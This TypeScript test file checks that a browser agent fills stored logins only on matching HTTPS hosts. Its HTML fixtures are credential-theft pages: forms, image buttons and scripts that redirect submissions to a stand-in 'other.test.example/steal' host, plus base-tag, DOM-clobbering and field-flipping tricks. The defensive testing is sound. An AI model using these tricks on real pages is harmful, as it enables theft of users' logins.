import { createServer } from 'node:http'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { FillableCredential } from '../../../src/browser/browser-session.ts'
import { Secret } from '../../../src/lib/secret.ts'
import type { Observation } from '../../../src/turn/observation.ts'
import { openSiteSession } from '../../support/browser/open-site-session.ts'
import { openTestSession, type TestSession } from '../../support/browser/open-test-session.ts'
import { listen } from '../../support/servers/listen.ts'

const username = 'maya@shop.example'
const password = 'Zq7!canary-5f0e'
const login = { username: new Secret(username), password: new Secret(password) }
const credentials: FillableCredential[] = [
  { ...login, handle: 'exact', host: 'shop.test.example' },
  { ...login, handle: 'parent', host: 'test.example' },
  { ...login, handle: 'sibling', host: 'other.test.example' },
  { ...login, handle: 'below', host: 'a.shop.test.example' },
  { ...login, handle: 'lookalike', host: 'shop.test' },
  { ...login, handle: 'tail', host: 'op.test.example' },
]

const fields = `<label>User <input name="user"></label>
<label>Password <input name="pass" type="password"></label>`
const form = (attributes: string, more = '') =>
  `<!doctype html><title>Login</title><form ${attributes}>${fields}${more}<button>Go</button></form>`

const imageButton = `<input type="image" alt="Sign in" width="80" height="30" src="/sign-in.svg"
  formaction="https://other.test.example/steal" formtarget="inner">`
const target = '<iframe name="inner" width="300" height="60"></iframe>'

const pages = {
  '/': form('action="/in" method="post"'),
  '/none': form(''),
  '/script': form('action="javascript:void(0)"'),
  '/elsewhere': form('action="https://other.test.example/in"'),
  '/plain': form('action="http://shop.test.example/in"'),
  '/based': `<base href="https://other.test.example/">${form('action="in"')}`,
  '/button': form('', '<button formaction="https://other.test.example/">Or</button>'),
  '/clobbered': form(
    'action="https://other.test.example/in"',
    '<input name="action" hidden><input name="elements" hidden>',
  ),
  '/port': form('action="https://shop.test.example:8443/in"'),
  '/image': `<form action="/in" method="post">${fields}${imageButton}</form>${target}`,
  '/image-apart': `<form id="login">${fields}</form><img name="createTreeWalker">
    ${imageButton.replace('alt', 'form="login" alt')}${target}`,
  '/image-in-shadow': `<div><template shadowrootmode="open"><form>${fields}${imageButton}</form></template></div>${target}`,
  '/image-here': form('', '<input type="image" alt="Sign in" formaction="/in">'),
  '/moves': form(
    'action="/in" method="post" target="inner"',
    `${target}<script>
    document.forms[0].onsubmit = () => { document.forms[0].action = 'https://other.test.example/steal' }
    </script>`,
  ),
  '/bare': fields,
  '/comment': '<label>Comment <textarea></textarea></label><label>Nick <input></label>',
  '/covered': `${fields}<div style="position:fixed;inset:0;background:#fff">Cookies</div>`,
  '/disabled': '<label>Password <input type="password" disabled></label>',
  '/framed': '<h1>Shop</h1><iframe src="https://other.test.example/" width="500"></iframe>',
  '/inner': '<h1>Shop</h1><iframe src="/" width="500"></iframe>',
  '/sandboxed': '<iframe src="/" sandbox="allow-scripts allow-forms" width="500"></iframe>',
  '/swaps': `${form('')}<script>
    document.querySelector('[type=password]').onfocus = () => {
      document.forms[0].action = 'https://other.test.example/'
    }</script>`,
  '/flips': `${form('')}<p id="mirror"></p><button id="show">Show</button>
    <script>
      const field = document.querySelector('[name=pass]')
      field.addEventListener('input', () => { field.type = 'text' })
    </script>`,
}

let session: TestSession

beforeAll(async () => {
  session = await openTestSession(pages, {}, { credentials })
})

afterAll(() => session[Symbol.asyncDispose]())

async function use(ref: string, credential: string, field: 'username' | 'password') {
  return session.act({ kind: 'use_credential', ref, credential, field })
}

function refOf({ elements }: Observation, name: string): string {
  return elements.find((element) => element.name === name)?.ref ?? 'e0'
}

async function readField(selector: string): Promise<string> {
  return session.page.locator(selector).inputValue()
}

test.each([
  ['exact', '/'],
  ['parent', '/'],
  ['exact', '/none'],
  ['exact', '/script'],
  ['exact', '/image-here'],
  ['exact', '/bare'],
])(
  'the login "%s" is filled in on %s, and observations show only its user name',
  async (handle, path) => {
    await session.open(path)
    const first = await use(session.find('User').ref, handle, 'username')
    await session.observe()
    const second = await use(session.find('Password').ref, handle, 'password')

    expect([first.failure, second.failure]).toEqual([null, null])
    expect([first.changed, second.changed]).toEqual([true, true])
    expect(await readField('[name=user]')).toBe(username)
    expect(await readField('[name=pass]')).toBe(password)
    const seen = await session.observe()
    expect(JSON.stringify([first, second, seen])).not.toContain(password)
    expect(session.find('User')).toMatchObject({ value: username, filled: false })
    expect(session.find('Password')).toMatchObject({ value: null, filled: true })
  },
)

const notFor = (host: string) =>
  `this login is for ${host}, and the field belongs to shop.test.example`
const leaves = 'the form of this field submits to another host or port, or without https'

test.each([
  ['nothing known', '/', 'unknown', 'this visit has no login with that name'],
  ['a sibling host', '/', 'sibling', notFor('other.test.example')],
  ['a host below', '/', 'below', notFor('a.shop.test.example')],
  ['a host that only begins alike', '/', 'lookalike', notFor('shop.test')],
  ['a host that only ends alike', '/', 'tail', notFor('op.test.example')],
  ['a form to another host', '/elsewhere', 'exact', leaves],
  ['a form without https', '/plain', 'exact', leaves],
  ['a form moved by its base', '/based', 'exact', leaves],
  ['a button to another host', '/button', 'exact', leaves],
  ['a form that hides its action', '/clobbered', 'exact', leaves],
  ['a form to another port', '/port', 'exact', leaves],
  ['an image button to another host', '/image', 'exact', leaves],
  ['an image button outside its form', '/image-apart', 'exact', leaves],
  ['an image button in a shadow tree', '/image-in-shadow', 'exact', leaves],
])('%s gets no login', async (_what, path, handle, message) => {
  await session.open(path)
  for (const [name, field] of [
    ['User', 'username'],
    ['Password', 'password'],
  ] as const) {
    const result = await use(session.find(name).ref, handle, field)
    expect(result.failure).toEqual({ kind: 'refused', message })
    await session.observe()
  }
  expect(await readField('[name=user]')).toBe('')
  expect(await readField('[name=pass]')).toBe('')
})

test('a password goes only into password fields, a username into none of them', async () => {
  await session.open('/comment')
  for (const name of ['Comment', 'Nick']) {
    const result = await use(session.find(name).ref, 'exact', 'password')
    expect(result.failure?.message).toBe('this is not a password field')
    await session.observe()
  }
  expect((await use(session.find('Comment').ref, 'exact', 'username')).failure?.message).toBe(
    'this is not a username field',
  )
  await session.open('/')
  expect((await use(session.find('Password').ref, 'exact', 'username')).failure?.message).toBe(
    'this is not a username field',
  )
})

test.each([
  ['/covered', 'covered'],
  ['/disabled', 'disabled'],
])('what a user could not fill in is not filled in either: %s', async (path, kind) => {
  const seen = await session.open(path)
  const ref = refOf(seen, 'Password')
  const result = await use(ref, 'exact', 'password')
  expect(result.failure?.kind).toMatch(ref === 'e0' ? 'stale_ref' : kind)
  expect(await readField('[type=password]')).toBe('')
})

test('a form in a frame of another host gets no login of this one, but one of the same host does', async () => {
  const outer = await session.open('/framed')
  const refused = await use(refOf(outer, 'Password'), 'exact', 'password')
  expect(refused.failure).toEqual({
    kind: 'refused',
    message: 'this login is for shop.test.example, and the field belongs to other.test.example',
  })
  const inner = await session.open('/inner')
  expect((await use(refOf(inner, 'Password'), 'exact', 'password')).failure).toBeNull()
  const sandboxed = await session.open('/sandboxed')
  expect((await use(refOf(sandboxed, 'Password'), 'exact', 'password')).failure).toEqual({
    kind: 'refused',
    message: 'logins are filled in only on https pages',
  })
})

test.each(['click', 'Enter'] as const)(
  'a form that moves as it is sent keeps no login: %s',
  async (how) => {
    await session.open('/moves')
    await use(session.find('Password').ref, 'exact', 'password')
    await session.observe()

    const result =
      how === 'click' ? await session.click('Go') : await session.act({ kind: 'press', key: how })

    expect(result.failure).toEqual({
      kind: 'blocked_navigation',
      message: 'a login must not be sent to another host',
      url: 'https://other.test.example/steal',
    })
    expect(session.requests).not.toContain('other.test.example/steal')
  },
)

test('a page without https gets no login', async () => {
  await using site = await listen(
    createServer((_request, response) => {
      response.setHeader('content-type', 'text/html')
      response.end(fields)
    }),
  )
  const url = `http://local.test.example:${site.port}/`
  const here = { ...login, handle: 'here', host: 'local.test.example' }
  await using plain = await openSiteSession(url, { credentials: [here] })
  const { signal } = new AbortController()
  await plain.open(url, signal)
  const ref = refOf(await plain.observe(signal), 'Password')
  const action = { kind: 'use_credential', ref, credential: 'here', field: 'password' } as const
  expect((await plain.act(action, signal)).failure).toEqual({
    kind: 'refused',
    message: 'logins are filled in only on https pages',
  })
})

test('a form that changes while it is filled in stays empty', async () => {
  await session.open('/swaps')
  const result = await use(session.find('Password').ref, 'exact', 'password')
  expect(result.failure).toEqual({
    kind: 'refused',
    message: 'the form changed while the login was being filled in',
  })
  expect(await readField('[name=pass]')).toBe('')
})

test('a field that the page turns into a readable one is not read', async () => {
  await session.open('/flips')
  await use(session.find('Password').ref, 'exact', 'password')
  const seen = await session.observe()
  expect(session.find('Password')).toMatchObject({ inputType: 'text', value: null })
  expect(JSON.stringify(seen)).not.toContain(password)
})
